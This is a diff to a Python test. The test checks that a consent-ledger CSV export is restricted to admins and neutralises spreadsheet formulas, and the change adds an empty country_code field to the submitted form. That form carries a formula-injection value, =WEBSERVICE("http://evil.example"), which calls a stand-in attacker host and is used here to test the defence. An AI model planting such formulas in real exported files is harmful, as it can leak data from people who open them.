@@ -83,7 +83,7 @@ def test_the_ledger_csv_is_for_admins_and_neutralises_formulas(
     assert client.post(link).status_code == 200
     form = {"first_name": "Eve", "last_name": "X", "email": "eve@example.com",
             "email_marketing_status": "subscribed", "sms_marketing_status": "pending",
-            "consent_evidence": "=WEBSERVICE(\"http://evil.example\")"}
+            "country_code": "", "consent_evidence": "=WEBSERVICE(\"http://evil.example\")"}
     assert post(admin_client, f"/contacts/{contact.id}/edit", form).status_code == 303
 
     response = _download(admin_client, "/exports/consent-ledger.csv")
